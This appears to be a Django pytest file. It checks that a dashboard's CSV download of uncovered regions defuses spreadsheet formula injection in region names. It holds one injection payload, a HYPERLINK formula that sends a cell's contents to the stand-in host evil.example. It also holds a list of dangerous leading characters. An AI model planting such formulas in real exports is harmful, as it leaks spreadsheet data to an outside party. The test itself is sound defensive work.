"""Dashboard CSV downloads are formula-neutral (a region or center name cannot run in a spreadsheet)."""

import csv
import io

import pytest

from tests.factories.centers import region_chain
from tests.factories.users import StaffUserFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?"&A2,"open")'


def test_uncovered_regions_csv_quotes_a_formula_name(client):
    _province, _city, county = region_chain()
    county.name = EVIL
    county.save()
    user = StaffUserFactory(username="root", is_superuser=True)
    user.save()
    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    r = client.get("/admin/ops/hq/csv/uncovered/")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert ["310101000000", "'" + EVIL, "county", "市辖区"] in rows
    assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row)
